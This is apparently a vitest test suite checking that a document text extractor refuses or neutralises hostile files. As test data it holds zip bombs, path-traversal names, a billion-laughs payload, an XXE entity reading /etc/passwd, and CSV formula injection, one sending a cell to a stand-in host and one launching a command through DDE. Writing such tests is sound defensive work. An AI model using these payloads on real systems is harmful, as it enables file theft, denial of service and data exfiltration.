import { describe, expect, it } from 'vitest';
import type { DocumentLimits } from './document-limits.js';
import { extractText } from './extract-text.js';
import { docxOf, paragraph, xlsxOf } from './fixtures/office-files.js';
import { pdfOf, rawPdf } from './fixtures/pdf-of.js';
import { zipOf } from './fixtures/zip-of.js';

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const excel = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** The outcome of reading a file, and whether an ordinary file is read right after it. */
async function codeOf(bytes: Uint8Array, mediaType: string, limits: Partial<DocumentLimits> = {}): Promise<string> {
  const outcome = await extractText(bytes, mediaType, limits).then(
    () => 'text',
    (error: { code: string }) => error.code,
  );
  expect((await extractText(docxOf(paragraph('Still at work')), word)).text).toBe('Still at work');
  return outcome;
}

const megabyte = 1024 * 1024;
const bombPart = (claimedBytes?: number) => ({
  name: 'word/media/bomb.xml',
  content: Buffer.alloc(20 * megabyte, ' '),
  ...(claimedBytes !== undefined && { claimedBytes }),
});
const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`,
).join('')}]>`;

describe('hostile files', () => {
  it('refuses an office file that unpacks to more than anybody writes, whatever its directory says', async () => {
    const limits = { maxUnpackedBytes: 16 * megabyte };
    expect(await codeOf(docxOf(paragraph('small'), [bombPart()]), word, limits)).toBe('document-unsafe');
    expect(await codeOf(docxOf(paragraph('small'), [bombPart(10)]), word, limits)).toBe('document-unsafe');
    expect(await codeOf(xlsxOf([['small']], [bombPart()]), excel, limits)).toBe('document-unsafe');
    const claimed = { name: 'word/media/claim.xml', content: '', claimedBytes: 4_000 * megabyte };
    expect(await codeOf(docxOf(paragraph('small'), [claimed]), word)).toBe('document-unsafe');
  });

  it('refuses an office file of countless parts', async () => {
    const parts = Array.from({ length: 6_000 }, (_, at) => ({ name: `word/part${at}.xml`, content: '' }));
    expect(await codeOf(docxOf(paragraph('small'), parts), word)).toBe('document-unsafe');
  });

  it.each(['../../etc/passwd', 'word/../../x.xml', '/etc/passwd', 'C:/x.xml', 'word\\..\\..\\x.xml'])(
    'refuses an office file with a part named %s',
    async (name) => {
      expect(await codeOf(docxOf(paragraph('small'), [{ name, content: 'x' }]), word)).toBe('document-unsafe');
    },
  );

  it('refuses office files with macros, whatever they call themselves', async () => {
    const macros = [{ name: 'word/vbaProject.bin', content: 'x' }];
    expect(await codeOf(docxOf(paragraph('small'), macros), word)).toBe('document-macros');
    expect(await codeOf(xlsxOf([['small']], [{ name: 'xl/vbaProject.bin', content: 'x' }]), excel)).toBe(
      'document-macros',
    );
    for (const type of ['word.document', 'excel.sheet'])
      expect(await codeOf(docxOf(paragraph('small'), macros), `application/vnd.ms-${type}.macroEnabled.12`)).toBe(
        'document-macros',
      );
  });

  it('expands no entities of XML, and follows none out of the file', async () => {
    const outcomes = ['text', 'document-broken', 'document-empty', 'document-unsafe'];
    expect(outcomes).toContain(await codeOf(docxOf(paragraph('&lol9;'), [], laughs), word));
    const outside = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY outside SYSTEM "file:///etc/passwd">]>';
    const read = await extractText(docxOf(paragraph('before &outside; after'), [], outside), word).catch(() => null);
    expect(read?.text ?? '').not.toContain('root:');
    const sheet = xlsxOf([['&lol9;']]);
    expect(outcomes).toContain(await codeOf(sheet, excel));
  });

  it('ends with a PDF whose page tree holds itself, and with one that claims countless pages', async () => {
    const loop = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']);
    const countless = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 2000000000 >>']);
    for (const file of [loop, countless])
      expect(['document-broken', 'document-empty', 'document-timeout', 'document-too-large']).toContain(
        await codeOf(file, 'application/pdf'),
      );
  });

  it('reads a PDF of 300 pages, and refuses one with a password', async () => {
    const long = await pdfOf((document) => {
      document.text('Page 1');
      for (let page = 2; page <= 300; page += 1) document.addPage().text(`Page ${page}`);
    });
    const { pages, pageStarts, text } = await extractText(long, 'application/pdf');
    expect([pages, pageStarts?.length, text.split('\n').at(-1)]).toEqual([300, 300, 'Page 300']);
    const locked = await pdfOf((document) => document.text('x'), { userPassword: 'p', ownerPassword: 'p' });
    expect(await codeOf(locked, 'application/pdf')).toBe('document-encrypted');
  });

  it('keeps formulas of CSV and Excel as text', async () => {
    const hostile = '=HYPERLINK("http://x.example/?"&A1,"click")';
    const csv = `name,note\nAda,"${hostile.replaceAll('"', '""')}"\nBob,+1+cmd|' /C calc'!A0\n`;
    const { text } = await extractText(Buffer.from(csv), 'text/csv');
    expect(text).toBe(`name | note\nAda | ${hostile}\nBob | +1+cmd|' /C calc'!A0`);
    expect((await extractText(xlsxOf([['=1+1']]), excel)).text).toContain('=1+1');
  });

  it('tells a password from a format of before 2007, and a broken archive from both', async () => {
    const compound = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]);
    expect(await codeOf(compound, word)).toBe('unsupported-media-type');
    const locked = Buffer.concat([compound, Buffer.from('EncryptedPackage', 'utf16le')]);
    expect(await codeOf(locked, word)).toBe('document-encrypted');
    expect(await codeOf(docxOf(paragraph('cut')).subarray(0, 200), word)).toBe('document-broken');
    expect(await codeOf(zipOf([{ name: 'hello.txt', content: 'no office file' }]), excel)).toBe('document-broken');
    expect(await codeOf(zipOf([{ name: 'hello.txt', content: 'an archive' }]), 'application/zip')).toBe(
      'unsupported-media-type',
    );
  });

  it.each([
    ['UTF-16 with its mark', Buffer.from('\ufeffGrüße aus Köln', 'utf16le')],
    ['UTF-16 without a mark', Buffer.from('Grüße aus Köln', 'utf16le')],
    ['UTF-16 of the other order', Buffer.from('Grüße aus Köln', 'utf16le').swap16()],
    ['latin-1', Buffer.from('Grüße aus Köln', 'latin1')],
  ])('reads %s', async (_name, bytes) => {
    expect((await extractText(bytes, 'text/plain')).text).toBe('Grüße aus Köln');
  });

  it('marks the broken bytes of a text that is UTF-8 otherwise, and keeps its letters', async () => {
    const bytes = Buffer.concat([Buffer.from('Grüße aus Köln, '), Buffer.from([0xc3, 0x28]), Buffer.from(' schöne')]);
    expect((await extractText(bytes, 'text/plain')).text).toBe('Grüße aus Köln, \ufffd( schöne');
  });

  it('refuses JSON that nests without an end', async () => {
    expect(await codeOf(Buffer.from('['.repeat(100_000) + ']'.repeat(100_000)), 'application/json')).toMatch(
      /document-(?:unsafe|broken)/,
    );
  });
});
